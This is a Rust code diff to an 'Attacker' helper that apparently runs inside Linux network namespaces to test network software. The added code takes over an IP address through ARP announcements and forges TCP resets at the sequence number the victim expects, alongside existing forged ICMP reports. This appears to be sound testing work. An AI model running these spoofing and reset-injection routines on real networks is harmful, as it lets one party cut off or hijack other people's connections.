@@ -82,7 +82,7 @@ impl Attacker {
             format!("-n {name} link set eth0 arp off"),
             format!("-n {name} address add {as_host}/24 dev eth0"),
             format!("-n {name} link set eth0 up"),
-            format!("-n {name} neigh replace {target} lladdr {hardware} dev eth0"),
+            neighbour(name, target, hardware),
         ]
         .into_iter()
         .try_for_each(|words| ip(&words));
@@ -133,6 +133,16 @@ impl Attacker {
     }
 
     fn listen(&self, port: u16, count: usize, limit: Duration) -> Vec<Vec<u8>> {
+        let mut heard = Vec::new();
+        self.hear(limit, |frame| {
+            heard.extend(payload_to(frame, port));
+            heard.len() < count
+        });
+        heard
+    }
+
+    /// Hands every frame on the wire to `take` until that says that it is enough, or `limit` is over.
+    fn hear(&self, limit: Duration, mut take: impl FnMut(&[u8]) -> bool + Send) {
         self.within(|| {
             let opened = socket(
                 AddressFamily::Packet,
@@ -145,16 +155,15 @@ impl Attacker {
                 Err(errno) => panic!("no packet socket: {errno}"),
             };
             let deadline = Instant::now() + limit;
-            let mut heard = Vec::new();
             let mut frame = [0; 2048];
-            while heard.len() < count && Instant::now() < deadline {
+            while Instant::now() < deadline {
                 match recv(raw.as_raw_fd(), &mut frame, MsgFlags::MSG_DONTWAIT) {
-                    Ok(length) => heard.extend(payload_to(&frame[..length], port)),
+                    Ok(length) if !take(&frame[..length]) => return,
+                    Ok(_more) => {}
                     Err(_nothing_yet) => thread::sleep(Duration::from_millis(1)),
                 }
             }
-            heard
-        })
+        });
     }
 
     /// Sends `datagrams` one after the other and again from the first, from `from` to `to`, for `span` at
@@ -214,6 +223,62 @@ impl Attacker {
 }
 
 impl Attacker {
+    /// Answers for the address `host` on the network from now on, at the link address `hardware`, and says so to all.
+    ///
+    /// # Panics
+    /// When it cannot.
+    pub fn claim(&self, host: Ipv4Addr, hardware: &str) {
+        let name = &self.namespace;
+        let claimed = [
+            format!("netns exec {name} sysctl -qw net.ipv4.conf.eth0.arp_notify=1"),
+            format!("-n {name} link set eth0 arp on"),
+            format!("-n {name} address replace {host}/24 dev eth0"),
+            format!("-n {name} link set eth0 address {hardware}"),
+        ]
+        .into_iter()
+        .try_for_each(|words| ip(&words));
+        if let Err(reason) = claimed {
+            panic!("{host} is not claimed: {reason}");
+        }
+    }
+
+    /// Forges resets in the peer's name, each exactly at the place in the stream that `victim` expects next, of
+    /// the TCP connection that it is heard to have with `port` at one end, until a new one is begun or `limit` is
+    /// over. It knows that the victim has the link address `hardware`. Gives how many it sent.
+    ///
+    /// # Panics
+    /// When it has no socket, or nothing of the connection is heard.
+    pub fn reset(&self, port: u16, victim: Ipv4Addr, hardware: &str, limit: Duration) -> u64 {
+        if let Err(reason) = ip(&neighbour(&self.namespace, victim, hardware)) {
+            panic!("{reason}");
+        }
+        let raw = self.within(|| {
+            // Of the protocol 255 the headers are ours as well.
+            match Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))) {
+                Ok(raw) => raw,
+                Err(error) => panic!("no raw socket for the attacker: {error}"),
+            }
+        });
+        let to = SockAddr::from(SocketAddrV4::new(victim, 0));
+        let mut sent_count = 0;
+        self.forget_after(0);
+        self.hear(limit, |frame| {
+            let Some(segment) = Segment::in_frame(frame, port) else {
+                return true;
+            };
+            if segment.flags & TCP_SYN != 0 {
+                return sent_count == 0;
+            }
+            if segment.flags & TCP_RST == 0 {
+                sent_count += u64::from(raw.send_to(&segment.reset(victim), &to).is_ok());
+            }
+            true
+        });
+        self.forget_after(SWITCH_AGEING);
+        assert!(sent_count > 0, "no connection heard");
+        sent_count
+    }
+
     /// Sends `to` forged reports of the network (ICMP) on datagrams from `quoted[0]` to `quoted[1]`, one kind
     /// after the other, for `span` at `rate` a second.
     ///
@@ -274,6 +339,13 @@ fn report((kind, code, rest): (u8, u8, u32), quoted: [SocketAddrV4; 2]) -> Vec<u
     bytes.extend(quoted[0].port().to_be_bytes());
     bytes.extend(quoted[1].port().to_be_bytes());
     bytes.extend([0, 108, 0, 0]);
+    let sum = checksum(&bytes);
+    bytes[2..4].copy_from_slice(&sum);
+    bytes
+}
+
+/// The checksum of IP, TCP and ICMP (RFC 1071) of an even number of bytes.
+fn checksum(bytes: &[u8]) -> [u8; 2] {
     let words = bytes.chunks_exact(2);
     let mut sum: u32 = words
         .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])))
@@ -282,8 +354,73 @@ fn report((kind, code, rest): (u8, u8, u32), quoted: [SocketAddrV4; 2]) -> Vec<u
         sum = (sum & 0xffff) + (sum >> 16);
     }
     let [_, _, high, low] = (!sum).to_be_bytes();
-    bytes[2..4].copy_from_slice(&[high, low]);
-    bytes
+    [high, low]
+}
+
+const TCP_SYN: u8 = 2;
+const TCP_RST: u8 = 4;
+
+/// What a stranger needs of a TCP segment that it heard.
+struct Segment {
+    from: SocketAddrV4,
+    to: SocketAddrV4,
+    /// The next byte that the receiver expects after it.
+    next: u32,
+    /// The next byte that the sender expects.
+    acknowledged: u32,
+    flags: u8,
+}
+
+impl Segment {
+    /// The segment of an Ethernet frame of IPv4 with `port` at one end.
+    fn in_frame(frame: &[u8], port: u16) -> Option<Self> {
+        let packet = frame.get(14..).filter(|_| frame[12..14] == [8, 0])?;
+        let is_tcp = *packet.get(9)? == 6;
+        let (from, to) = (packet.get(12..16)?, packet.get(16..20)?);
+        let tcp = packet
+            .get(usize::from(packet[0] & 15) * 4..)
+            .filter(|_| is_tcp)?;
+        let head: &[u8; 20] = tcp.first_chunk()?;
+        let whole = u32::from(u16::from_be_bytes([packet[2], packet[3]]));
+        let heads = u32::from(packet[0] & 15) * 4 + u32::from(head[12] >> 4) * 4;
+        let number =
+            |at: usize| u32::from_be_bytes([head[at], head[at + 1], head[at + 2], head[at + 3]]);
+        let end = |ip: &[u8], port: [u8; 2]| {
+            let ip = Ipv4Addr::new(ip[0], ip[1], ip[2], ip[3]);
+            SocketAddrV4::new(ip, u16::from_be_bytes(port))
+        };
+        let segment = Self {
+            from: end(from, [head[0], head[1]]),
+            to: end(to, [head[2], head[3]]),
+            next: number(4).wrapping_add(whole.saturating_sub(heads)),
+            acknowledged: number(8),
+            flags: head[13],
+        };
+        [segment.from, segment.to]
+            .iter()
+            .any(|end| end.port() == port)
+            .then_some(segment)
+    }
+
+    /// An IPv4 packet with a reset to `victim`, one of both ends, where it expects the next byte. The kernel fills in
+    /// the length and the checksum of its header.
+    fn reset(&self, victim: Ipv4Addr) -> Vec<u8> {
+        let (from, to, next) = if *self.from.ip() == victim {
+            (self.to, self.from, self.acknowledged)
+        } else {
+            (self.from, self.to, self.next)
+        };
+        let mut tcp = Vec::new();
+        tcp.extend(from.port().to_be_bytes());
+        tcp.extend(to.port().to_be_bytes());
+        tcp.extend(next.to_be_bytes());
+        tcp.extend([0, 0, 0, 0, 5 << 4, TCP_RST, 0, 0, 0, 0, 0, 0]);
+        let ends = [from.ip().octets(), to.ip().octets()].concat();
+        let sum = checksum(&[ends.as_slice(), &[0, 6, 0, 20], &tcp].concat());
+        tcp[16..18].copy_from_slice(&sum);
+        let head = [0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0];
+        [head.as_slice(), &ends, &tcp].concat()
+    }
 }
 
 impl Drop for Attacker {
@@ -292,6 +429,11 @@ impl Drop for Attacker {
         command.args(["netns", "delete", &self.namespace]);
         drop(child::run(&mut command, SETUP_LIMIT));
     }
+}
+
+/// Words of `ip` that have the namespace `name` know that `host` has the link address `hardware`.
+fn neighbour(name: &str, host: Ipv4Addr, hardware: &str) -> String {
+    format!("-n {name} neigh replace {host} lladdr {hardware} dev eth0")
 }
 
 fn ip(words: &str) -> Result<(), String> {
